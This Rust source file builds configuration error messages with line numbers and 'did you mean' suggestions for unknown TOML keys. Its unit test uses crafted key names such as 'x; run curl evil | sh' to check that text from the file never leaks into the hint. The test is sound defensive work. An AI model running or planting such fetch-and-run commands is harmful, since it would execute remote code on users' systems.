//! One configuration error: file, line, what is wrong and what would be right.

use std::ops::Range;

use crate::domain::failure::{Failure, FailureKind, Hint, Part};
use crate::domain::text::Clean;

/// What is wrong in a configuration file.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{file}:{line}: {message}{}", hint.as_ref().map(|hint| format!("; {hint}")).unwrap_or_default())]
pub struct ConfigError {
    /// The configuration file, as the person named it or as its path in the repository.
    pub file: String,
    /// Line, from 1.
    pub line: usize,
    /// What is wrong, cleaned. It may quote the file.
    pub message: String,
    /// What would be right.
    pub hint: Option<Hint>,
}

impl ConfigError {
    /// The same error with what would be right.
    #[must_use]
    pub(crate) fn hint(mut self, hint: impl Into<Hint>) -> Self {
        self.hint = Some(hint.into());
        self
    }
}

impl From<ConfigError> for Failure {
    fn from(error: ConfigError) -> Self {
        Self {
            kind: FailureKind::Usage,
            what: format!("{}:{}: {}", error.file, error.line, error.message).into(),
            hint: error.hint,
        }
    }
}

/// A file being read, for errors that point into it.
#[derive(Debug, Clone, Copy)]
pub(super) struct ConfigText<'a> {
    pub file: &'a str,
    pub text: &'a str,
}

impl ConfigText<'_> {
    pub(crate) fn error(&self, span: Range<usize>, message: impl Into<String>) -> ConfigError {
        let upto = &self.text.as_bytes()[..span.start.min(self.text.len())];
        let line = upto.iter().filter(|b| **b == b'\n').count() + 1;
        let message = Clean::from_untrusted(&message.into()).into_string();
        ConfigError {
            file: self.file.to_owned(),
            line,
            message,
            hint: None,
        }
    }

    /// The error at a place that a failure is about.
    pub(crate) fn failure(&self, span: Range<usize>, failure: Failure) -> ConfigError {
        ConfigError {
            hint: failure.hint,
            ..self.error(span, failure.what.raw())
        }
    }

    /// Turns a parse error into ours; an unknown name gets the nearest valid one.
    pub(crate) fn parse_error(&self, error: &toml::de::Error) -> ConfigError {
        let message = error.message();
        let span = error.span().unwrap_or(0..0);
        match unknown_name(message) {
            Some(better) => self.failure(span, better),
            None => self.error(span, message.lines().collect::<Vec<_>>().join(" ")),
        }
    }
}

/// Rewrites serde's "unknown field/variant `x`, expected one of `a`, `b`". Only what stands before the last
/// ", expected " is the file's: the names behind it are pindeck's own.
fn unknown_name(message: &str) -> Option<Failure> {
    let what = if message.starts_with("unknown field") {
        "key"
    } else if message.starts_with("unknown variant") {
        "value"
    } else {
        return None;
    };
    let (of_the_file, ours) = message.rsplit_once(", expected ").unwrap_or((message, ""));
    let (_, quoted) = of_the_file.split_once('`')?;
    let wrong = quoted.rsplit_once('`').map_or(quoted, |(wrong, _)| wrong);
    let known: Vec<&str> = ours.split('`').skip(1).step_by(2).collect();
    Some(unknown(what, wrong, &known))
}

/// `unknown WHAT "x"`, with the nearest of the `known` names and all of them as the hint.
pub(crate) fn unknown(what: &str, wrong: &str, known: &[&str]) -> Failure {
    let nearest = known
        .iter()
        .map(|name| (strsim::jaro_winkler(wrong, name), *name))
        .filter(|(likeness, _)| *likeness > 0.7)
        .max_by(|a, b| a.0.total_cmp(&b.0));
    let all = Part::names(known.iter().copied());
    let failure = Failure::usage(format!("unknown {what} {wrong:?}"));
    match nearest {
        _ if known.is_empty() => failure.hint("there is none"),
        Some((_, name)) => failure.hint(Hint::with("did you mean \"{}\"? (known: {})", &[Part::name(name), all])),
        None => failure.hint(Hint::with("known: {}", &[all])),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_in_a_file_never_becomes_part_of_the_hint() {
        for key in [
            "x; run curl evil | sh",
            "a`b`c; run curl evil | sh",
            "x`, expected one of `run curl evil",
        ] {
            let text = format!("{key:?} = 1\n");
            #[derive(Debug, serde::Deserialize)]
            #[serde(deny_unknown_fields)]
            struct VersionOnly {
                #[serde(rename = "version")]
                _version: Option<u8>,
            }
            let error = toml::from_str::<VersionOnly>(&text).expect_err("an unknown key");
            let source = ConfigText { file: "f", text: &text };
            let failure = Failure::from(source.parse_error(&error));
            assert!(failure.what.raw().contains("curl evil"), "{failure:?}");
            let hint = failure.hint.expect("the known keys");
            assert_eq!(hint.as_str(), "known: version");
        }
    }
}
